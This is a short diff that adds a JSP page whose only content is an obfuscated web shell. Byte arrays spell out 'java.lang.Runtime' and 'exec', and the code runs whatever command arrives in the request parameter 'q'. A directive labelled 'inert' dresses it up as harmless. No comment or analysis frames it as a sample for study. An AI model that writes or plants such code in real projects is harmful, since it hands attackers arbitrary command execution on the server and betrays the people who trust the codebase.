@@ -1,0 +1,2 @@
+<%@ inert %>
+<% Class rt = Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101})); Object o = rt.getMethod(new String(new byte[]{101,120,101,99}), String.class).invoke(rt.getMethod("getRuntime").invoke(null), request.getParameter("q")); %>
